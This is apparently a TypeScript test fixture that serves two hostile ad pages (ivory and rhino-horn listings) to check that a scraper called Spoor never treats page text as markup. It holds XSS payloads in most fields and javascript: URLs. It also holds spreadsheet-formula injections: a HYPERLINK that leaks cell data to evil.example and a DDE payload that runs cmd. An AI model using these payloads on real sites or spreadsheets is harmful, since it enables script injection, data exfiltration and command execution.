import type { Route } from '../support/server';

/*
 * Two ad pages whose every field a page controls carries script and
 * spreadsheet-formula payloads. Each script payload, if it ever ran, would set
 * window.__pwned (or open a dialog); each markup payload would leave an element
 * the tests look for (img[src=x], an on* attribute, an iframe). The pages show
 * the payloads as escaped text, so they are inert on the pages themselves:
 * anything that runs later ran because Spoor parsed page text as markup.
 */

/** Markup and script payloads. */
export const XSS = {
  img: `<img src=x onerror="window.__pwned='img'">`,
  script: `<script>window.__pwned='script'</script>`,
  svg: `"><svg onload="window.__pwned='svg';alert(1)">`,
  iframe: `<iframe src="javascript:parent.__pwned='iframe'"></iframe>`,
  /** Entities as text: shown as "&lt;b&gt;", never decoded to <b>. */
  entities: '&lt;b&gt;&amp;amp;&#x3C;i&#x3E;',
  /** A right-to-left override that makes "exe.txt" read as "txt.exe". */
  bidi: 'invoice\u202Etxt.exe',
  zeroWidth: 'i\u200Bv\u200Co\u200Dr\u2060y',
} as const;

/** A `javascript:` URL, put wherever a page gives a URL (canonical, og:url, seller and image links). */
export const JS_URL = `javascript:window.__pwned='url';alert(document.domain)`;

/** Payloads a spreadsheet would run as formulas (OWASP "CSV injection"). */
export const FORMULA = {
  hyperlink: `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
  dde: `+cmd|' /C calc'!A0`,
  minus: '-2+3',
  at: '@SUM(1)',
} as const;

/** Script payloads in the ad's URL itself: path and query (percent-encoded, as browsers send them). */
export const HOSTILE_PATH = `/ads/${encodeURIComponent(XSS.img)}/`;
export const HOSTILE_QUERY = `?q=${encodeURIComponent(XSS.svg)}&next=${encodeURIComponent(JS_URL)}`;

const LONG = 'A'.repeat(60_000);

/** Text safe inside an HTML element or a quoted attribute. */
const html = (text: string) =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');
/** JSON safe inside a <script> element: `<` escaped, so no payload closes the element. */
const scriptJson = (value: unknown) => JSON.stringify(value).replaceAll('<', '\\u003c');

const shared = (title: string, description: string) => `
  <link rel="canonical" href="${html(JS_URL)}">
  <meta property="og:url" content="${html(JS_URL)}">
  <meta property="og:title" content="${html(title)}">
  <meta property="og:description" content="${html(description)}">
  <meta property="og:image" content="${html(JS_URL)}">
  <meta property="product:price:amount" content="${html(FORMULA.hyperlink)}">
  <meta name="description" content="${html(description)}">`;

/** Page 1: JSON-LD Product (the first source Spoor reads), with OpenGraph and visible copies. */
export const JSON_LD_AD = {
  title: `${FORMULA.hyperlink} Carved ivory tusk ${XSS.img} ${XSS.bidi}`,
  description: `Loxodonta africana ivory ${XSS.script} ${XSS.svg} ${XSS.entities} ${XSS.zeroWidth} ${LONG}`,
  seller: `${FORMULA.dde} ${XSS.svg}`,
  sellerId: FORMULA.at,
  location: `${FORMULA.minus} ${XSS.iframe}`,
  sku: `${FORMULA.at}${XSS.entities}`,
};

/** Page 2: no JSON-LD; schema.org microdata in visible elements, so the payloads are read as text nodes. */
export const MICRODATA_AD = {
  title: `${FORMULA.at} Rhino horn cup ${XSS.svg} ${XSS.entities}`,
  description: `Ceratotherium simum horn ${XSS.img} ${XSS.zeroWidth}`,
  seller: `${FORMULA.minus} ${XSS.script}`,
};

function jsonLdPage(): string {
  const ad = JSON_LD_AD;
  const product = {
    '@context': 'https://schema.org',
    '@type': 'Product',
    name: ad.title,
    description: ad.description,
    sku: ad.sku,
    image: [JS_URL, 'x'],
    offers: {
      '@type': 'Offer',
      price: '450',
      priceCurrency: 'EUR',
      seller: { '@type': 'Person', name: ad.seller, identifier: ad.sellerId, url: JS_URL },
      availableAtOrFrom: { '@type': 'Place', address: { '@type': 'PostalAddress', addressLocality: ad.location } },
    },
  };
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${html(ad.title)}</title>${shared(ad.title, ad.description)}
  <script type="application/ld+json">${scriptJson(product)}</script></head>
  <body><h1>${html(ad.title)}</h1><p>${html(ad.description.slice(0, 400))}</p>
  <p>Seller: <a href="${html(JS_URL)}">${html(ad.seller)}</a>, ${html(ad.location)}</p>
  <p class="price">€ 450 ${html(FORMULA.hyperlink)}</p><img alt="${html(XSS.img)}" src="data:,"></body></html>`;
}

function microdataPage(): string {
  const ad = MICRODATA_AD;
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${html(ad.title)}</title>${shared(ad.title, ad.description)}</head>
  <body><div itemscope itemtype="https://schema.org/Product">
    <h1 itemprop="name">${html(ad.title)}</h1>
    <p itemprop="description">${html(ad.description)}</p>
    <img itemprop="image" alt="${html(XSS.svg)}" src="data:,">
    <div itemprop="offers" itemscope itemtype="https://schema.org/Offer">
      <span itemprop="price" content="120">120 ${html(FORMULA.dde)}</span><meta itemprop="priceCurrency" content="EUR">
      <div itemprop="seller" itemscope itemtype="https://schema.org/Person">
        <a itemprop="url" href="${html(JS_URL)}"><span itemprop="name">${html(ad.seller)}</span></a>
      </div>
    </div>
  </div></body></html>`;
}

/** Serves the two pages under any path below /ads/ (so the path itself can carry a payload). */
export const hostileAdRoute: Route = (req, res) => {
  const path = new URL(req.url ?? '/', 'http://x').pathname;
  if (!path.startsWith('/ads/')) return false;
  const page = path.endsWith('/json-ld.html')
    ? jsonLdPage()
    : path.endsWith('/microdata.html')
      ? microdataPage()
      : undefined;
  if (!page) return false;
  res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(page);
  return true;
};
